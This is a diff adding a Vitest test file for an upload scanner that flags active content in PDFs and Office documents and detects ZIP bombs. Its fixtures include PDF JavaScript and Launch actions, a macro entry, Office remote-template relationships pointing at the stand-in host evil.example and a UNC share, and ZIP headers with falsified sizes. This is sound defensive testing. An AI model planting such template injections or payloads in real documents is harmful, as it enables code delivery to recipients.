@@ -1,0 +1,136 @@
+import { readFile } from "node:fs/promises";
+import { deflateRawSync, deflateSync } from "node:zlib";
+import { describe, expect, test } from "vitest";
+import { hasActiveContent, isZipBomb } from "./active-content.server";
+
+const inParts = (file: Uint8Array, size: number) =>
+  function* () {
+    for (let at = 0; at < file.length; at += size) yield file.subarray(at, at + size);
+  };
+
+/** Whether a file is active; it must be the same however the file comes. */
+async function isActive(file: Uint8Array): Promise<boolean> {
+  const [whole, cut] = await Promise.all(
+    [64 * 1024, 61].map((size) => hasActiveContent(inParts(file, size))),
+  );
+  expect(cut).toBe(whole);
+  return whole === true;
+}
+
+const pdf = (...objects: (string | Buffer)[]) =>
+  Buffer.concat([
+    Buffer.from("%PDF-1.7\n"),
+    ...objects.map((object) => Buffer.from(object)),
+    Buffer.from("\n%%EOF\n"),
+  ]);
+
+const objectStream = (text: string, dictionary = "/Type /ObjStm /Filter /FlateDecode") => [
+  `5 0 obj\n<<${dictionary}>>\nstream\r\n`,
+  deflateSync(text),
+  "\nendstream\nendobj\n",
+];
+
+interface Entry {
+  name: string;
+  content?: string;
+  /** What the directory says. */
+  size?: number;
+}
+
+function zip(...entries: Entry[]): Buffer {
+  const locals: Buffer[] = [];
+  const directory: Buffer[] = [];
+  let at = 0;
+  for (const { name, content = "", size = content.length } of entries) {
+    const packed = deflateRawSync(content);
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50);
+    local.writeUInt16LE(name.length, 26);
+    locals.push(local, Buffer.from(name), packed);
+    const entry = Buffer.alloc(46);
+    entry.writeUInt32LE(0x02014b50);
+    entry.writeUInt16LE(8, 10);
+    entry.writeUInt32LE(packed.length, 20);
+    entry.writeUInt32LE(size, 24);
+    entry.writeUInt16LE(name.length, 28);
+    entry.writeUInt32LE(at, 42);
+    directory.push(entry, Buffer.from(name));
+    at += local.length + name.length + packed.length;
+  }
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50);
+  end.writeUInt16LE(entries.length, 8);
+  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt32LE(Buffer.concat(directory).length, 12);
+  end.writeUInt32LE(at, 16);
+  return Buffer.concat([...locals, ...directory, end]);
+}
+
+const template = (target: string, mode = "External") => ({
+  name: "word/_rels/settings.xml.rels",
+  content:
+    '<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/' +
+    `officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="${mode}"/></Relationships>`,
+});
+
+const DOCUMENT = { name: "word/document.xml", content: "<w:document/>" };
+const GB = 1024 ** 3;
+
+describe("a file with something that acts", () => {
+  test.each<[string, Uint8Array]>([
+    ["JavaScript in a PDF", pdf("1 0 obj\n<</S /JavaScript /JS (app.alert(1))>>\nendobj\n")],
+    ["JavaScript from a stream", pdf("<</S/Rendition/JS 12 0 R>>")],
+    ["a program to launch", pdf("<</OpenAction<</S/Launch/F(a.exe)>>>>")],
+    ["JavaScript far behind", pdf(Buffer.alloc(300_000, 65), "<</S/JavaScript>>")],
+    ["a packed object", pdf(...objectStream("1 0 <</S/JavaScript/JS(a)>>"))],
+    [
+      "a packed object behind others",
+      pdf(...objectStream("1 0 <<>>"), ...objectStream("/Launch ")),
+    ],
+    ["a long packed object", pdf(...objectStream(`${"<</A 1>>\n".repeat(50_000)}/S/Launch `))],
+    ["macros", zip(DOCUMENT, { name: "word/vbaProject.bin", content: "x" })],
+    ["a template on the web", zip(DOCUMENT, template("https://evil.example/a.dotm"))],
+    ["a template in a network", zip(DOCUMENT, template("\\\\evil\\a.dotm"))],
+    ["a template by a file's address", zip(template("file:///\\\\evil\\a.dotm"), DOCUMENT)],
+  ])("is found: %s", async (_, file) => {
+    expect(await isActive(file)).toBe(true);
+  });
+
+  test.each<[string, Uint8Array]>([
+    ["a link and a page to open at", pdf("<</OpenAction[3 0 R/Fit]/A<</S/URI/URI(/JSON)>>>>")],
+    ["a packed object", pdf(...objectStream("1 0 <</Type/Page>>"))],
+    ["a packed object that is broken", pdf("<</Type/ObjStm>>stream\n", "nonsense", "\nendstream")],
+    ["a packed object without an end", pdf("<</Type/ObjStm>>stream\n", Buffer.alloc(400_000, 1))],
+    ["a template on the own disk", zip(template("file:///C:\\Users\\a\\Normal.dotm"), DOCUMENT)],
+    ["a ZIP that was cut off", zip(DOCUMENT, template("https://evil.example/")).subarray(0, 90)],
+    ["a ZIP whose directory lies", zip(DOCUMENT).fill(0xff, 60, 80)],
+    ["neither", Buffer.from("<</S/JavaScript>>")],
+    ["nothing", Buffer.alloc(0)],
+  ])("is not found where there is none: %s", async (_, file) => {
+    expect(await isActive(file)).toBe(false);
+  });
+
+  test.each(["cv.doc", "cv.docx", "cv.jpg", "cv.pdf", "cv.png", "cv.rtf"])(
+    "is not found in a real %s",
+    async (name) => {
+      const file = await readFile(`tests/fixtures/accepted/${name}`);
+      expect(await isActive(file)).toBe(false);
+      expect(isZipBomb(inParts(file, 1000))).toBe(false);
+    },
+  );
+});
+
+test.each<[string, Uint8Array, boolean]>([
+  ["one file of 1 GB", zip(DOCUMENT, { name: "word/media/a.bmp", size: GB }), true],
+  [
+    "many files of 10 MB",
+    zip(...(Array(103).fill({ name: "a", size: GB / 100 }) as Entry[])),
+    true,
+  ],
+  ["one with a ZIP64 size that is missing", zip({ name: "a", size: 0xffffffff }), true],
+  ["100 MB", zip(DOCUMENT, { name: "word/media/a.bmp", size: GB / 10 }), false],
+  ["a ZIP without a directory", zip(DOCUMENT).subarray(0, 60), false],
+  ["no ZIP", Buffer.from("%PDF-1.7"), false],
+])("whether it is a ZIP bomb: %s", (_, file, isBomb) => {
+  for (const size of [50, 64 * 1024]) expect(isZipBomb(inParts(file, size))).toBe(isBomb);
+});
